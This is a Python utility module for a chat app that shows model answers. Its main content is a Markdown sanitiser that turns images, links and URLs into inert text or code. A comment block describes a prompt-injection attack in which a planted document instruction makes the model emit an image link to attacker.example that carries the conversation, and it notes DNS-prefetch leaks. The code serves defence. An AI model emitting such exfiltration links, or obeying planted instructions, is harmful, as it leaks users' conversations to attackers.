"""Small wording helpers shared by the CLI and the pages."""

from __future__ import annotations

import bisect
import re
from dataclasses import dataclass


def plural(n: int, noun: str) -> str:
    return f"{n} {noun}" if n == 1 else f"{n} {noun}s"


def shorten(text: str, limit: int) -> str:
    """`text`, or its first `limit` characters ending with "…" when it is longer."""
    return text if len(text) <= limit else text[: max(0, limit - 1)].rstrip() + "…"


# Characters that are not text but orders to a terminal or a renderer: C0 and C1 controls (escape sequences change
# colours and the window title, ring the bell, a newline splits a table's line) and the invisible marks that
# reorder or hide text (bidirectional overrides, zero-width characters).
_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]")


def clean_name(name: str) -> str:
    """A file name as the knowledge base stores it: each control or invisible character replaced by "_"."""
    return _CONTROL.sub("_", name)


def terminal_safe(text: str) -> str:
    """`text` to print on a terminal: every control or invisible character shown escaped ("\\x1b", "\\n"),
    never sent as it is (names stored before names were cleaned may still hold some)."""
    return _CONTROL.sub(_escaped, text)


def _escaped(match: re.Match[str]) -> str:
    char = match.group()
    named = {"\n": "\\n", "\r": "\\r", "\t": "\\t"}
    return named.get(char) or (f"\\x{ord(char):02x}" if ord(char) < 0x100 else f"\\u{ord(char):04x}")


def human_size(n_bytes: int) -> str:
    if n_bytes < 1024:
        return f"{n_bytes} B"
    size = n_bytes / 1024
    for unit in ("KB", "MB"):
        if size < 1024:
            return f"{size:.1f} {unit}"
        size /= 1024
    return f"{size:.1f} GB"


# -- Markdown that leaks nothing ------------------------------------------------------------------------
#
# Model answers, error texts (some come from a remote server) and conversation titles are shown with
# Streamlit's Markdown. A planted instruction in a document can make the model write
# `![](https://attacker.example/?q=<the conversation>)`: rendered as Markdown, the browser fetches it.
# Streamlit already escapes raw HTML (no `unsafe_allow_html`), so the remaining ways out are images
# (inline and reference style) and links: an <a href> is not followed without a click, but Chromium and
# Firefox resolve the host of every link on an http:// page in advance (DNS prefetch), which leaks
# whatever a planted link encodes in its host name. So images become a text note, link syntax becomes
# text, and every URL (also the bare ones GitHub-flavoured Markdown would turn into links) is shown as
# inline code, which no Markdown renderer links. Emphasis, lists, headings, tables and code stay.
#
# The rules are chosen so that a mistake fails safe: fenced code blocks are split off and shown with
# st.code (never parsed as Markdown), and everything else is escaped line by line, keeping as code only
# the inline code spans that open and close on one line (backticks without a partner are escaped, so the
# renderer pairs exactly the spans kept here) and that hold no "|" (GFM splits table cells first).

_PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
# What a renderer would turn into a link, and more: any scheme://, and www. anywhere (GFM links
# "1https://…", so no word boundary is required). Bounded so that no input makes the scan quadratic.
_URL = re.compile(r"(?:[a-z][a-z0-9+.-]{0,31}://|www\.)[^\s<>`]*", re.IGNORECASE)
_BACKTICKS = re.compile(r"`+")
_URL_TRAILING = ".,:;!?'\"*_~"
_TARGET = r"\(\s*<?([^\s<>()`]*)>?(?:\s+(?:\"[^\"\n]{0,300}\"|'[^'\n]{0,300}'))?\s*\)"
_IMAGE = re.compile(r"!\[([^\[\]`\n]*)\]" + _TARGET)
_REF_IMAGE = re.compile(r"!\[([^\[\]`\n]*)\](?:\[[^\[\]`\n]*\])?")
_LINK = re.compile(r"\[([^\[\]`\n]*)\]" + _TARGET)
_HTML_MEDIA = re.compile(r"<(img|iframe|video|audio|source|embed|object|picture)\b[^<>]*>", re.IGNORECASE)
_HTML_ATTR = re.compile(r"""\b(src|alt|data)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))""", re.IGNORECASE)
_FENCE = re.compile(r"^( {0,3})(`{3,}|~{3,})(.*)$")
# Links, images, definitions, autolinks, HTML, entities; and math ($…$), which Streamlit renders and which
# pairs like a code span: one unescaped $ before a code span would pair differently from the spans kept here.
_ESCAPED_IN_PROSE = frozenset("[]<&$")
_PLAIN_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$:&])")


@dataclass(frozen=True)
class MarkdownBlock:
    """A piece of a model answer: Markdown made safe, or a fenced code block to show as code."""

    text: str
    code: bool = False
    language: str = ""


def safe_markdown_blocks(text: str) -> list[MarkdownBlock]:
    """`text` (a model answer) as blocks to render in order: prose via `safe_markdown`, code as code."""
    blocks: list[MarkdownBlock] = []
    prose: list[str] = []
    lines = text.split("\n")
    i = 0
    while i < len(lines):
        opening = _FENCE.match(lines[i])
        if opening is None or (opening.group(2)[0] == "`" and "`" in opening.group(3)):
            prose.append(lines[i])
            i += 1
            continue
        if prose:
            blocks.append(MarkdownBlock(safe_markdown("\n".join(prose))))
            prose = []
        indent, fence, info = len(opening.group(1)), opening.group(2), opening.group(3).strip()
        closing = re.compile(rf"^ {{0,3}}{re.escape(fence[0])}{{{len(fence)},}}\s*$")
        body: list[str] = []
        i += 1
        while i < len(lines) and not closing.match(lines[i]):
            line = lines[i]
            body.append(line[min(indent, len(line) - len(line.lstrip(" "))) :])
            i += 1
        i += 1  # the closing fence (an unclosed block, e.g. while streaming, runs to the end)
        blocks.append(MarkdownBlock("\n".join(body), code=True, language=info.split(" ")[0] if info else ""))
    if prose:
        blocks.append(MarkdownBlock(safe_markdown("\n".join(prose))))
    return blocks


def safe_markdown(text: str) -> str:
    """Markdown that shows `text` with its formatting but loads and links nothing (see above)."""
    return "\n".join(_safe_line(line) for line in text.split("\n"))


def plain_markdown(text: str) -> str:
    """Markdown that shows `text` literally on one line (names, titles, labels): every special character
    escaped, URLs as inline code so that nothing becomes a link."""
    out: list[str] = []
    start = 0
    for match in _URL.finditer(text):
        if match.start() < start:
            continue
        out.append(_PLAIN_SPECIAL.sub(r"\\\1", text[start : match.start()]))
        url = _trim_url(match.group())
        out.append(_code(url))
        start = match.start() + len(url)
    out.append(_PLAIN_SPECIAL.sub(r"\\\1", text[start:]))
    return " ".join("".join(out).splitlines())


def _safe_line(line: str) -> str:
    runs: dict[int, list[int]] = {}  # backtick run length -> where such runs start, in order
    for run in _BACKTICKS.finditer(line):
        runs.setdefault(len(run.group()), []).append(run.start())
    out: list[str] = []
    i, n = 0, len(line)
    while i < n:
        c = line[i]
        if c == "\\" and i + 1 < n and line[i + 1] in _PUNCTUATION:
            out.append(line[i : i + 2])
            i += 2
            continue
        if c == "`":
            backticks = _BACKTICKS.match(line, i)
            length = len(backticks.group()) if backticks else 1
            starts = runs.get(length, [])
            after = bisect.bisect_left(starts, i + length)
            end = starts[after] + length if after < len(starts) else None
            if end is not None and "|" not in line[i:end]:
                out.append(_separated(out, line[i:end]))
                i = end
            else:
                out.append("\\`" * length)  # no partner on this line: literal, so the renderer pairs no other
                i += length
            continue
        if c == "!" and (image := _IMAGE.match(line, i)):
            out.append(_image_note("image", image.group(1), image.group(2)))
            i = image.end()
            continue
        if c == "!" and (ref_image := _REF_IMAGE.match(line, i)):
            out.append(_image_note("image", ref_image.group(1), ""))
            i = ref_image.end()
            continue
        if c == "[" and (link := _LINK.match(line, i)):
            label, target = link.group(1), link.group(2)
            shown = _safe_line(label)
            out.append(f"{shown} ({_code(target)})" if target and target != label else shown)
            i = link.end()
            continue
        if c == "<" and (media := _HTML_MEDIA.match(line, i)):
            attrs = {
                m.group(1).lower(): m.group(2) or m.group(3) or m.group(4) or ""
                for m in _HTML_ATTR.finditer(media.group())
            }
            tag = media.group(1).lower()
            kind = "image" if tag in ("img", "picture") else tag
            out.append(_image_note(kind, attrs.get("alt", ""), attrs.get("src") or attrs.get("data", "")))
            i = media.end()
            continue
        if url := _URL.match(line, i):
            text = _trim_url(url.group())
            span = _code(text)
            out.append(_separated(out, span + (" " if line[i + len(text) : i + len(text) + 1] == "`" else "")))
            i += len(text)
            continue
        out.append("\\" + c if c in _ESCAPED_IN_PROSE else c)
        i += 1
    return "".join(out)


def _separated(out: list[str], span: str) -> str:
    """A code span never touches the backticks before it: touching runs would pair differently."""
    return " " + span if out and out[-1].endswith("`") else span


def _image_note(kind: str, alt: str, url: str) -> str:
    alt = " ".join(alt.split())
    what = f"{kind}: {_safe_line(alt)}" if alt else kind
    where = f" from {_code(url)}" if url else ""
    return f"\\[{what}{where} — not loaded\\]"


def _trim_url(url: str) -> str:
    """GFM's rule: trailing punctuation, and closing parentheses without a partner, are not part of a URL."""
    unbalanced = url.count(")") - url.count("(")
    end = len(url)
    while end and (url[end - 1] in _URL_TRAILING or (url[end - 1] == ")" and unbalanced > 0)):
        if url[end - 1] == ")":
            unbalanced -= 1
        end -= 1
    return url[:end]


def _code(text: str) -> str:
    """`text` as an inline code span: nothing inside it is parsed, so nothing in it becomes a link."""
    longest = max((len(run) for run in _BACKTICKS.findall(text)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if text.startswith("`") or text.endswith("`") else ""
    return f"{fence}{pad}{text}{pad}{fence}"
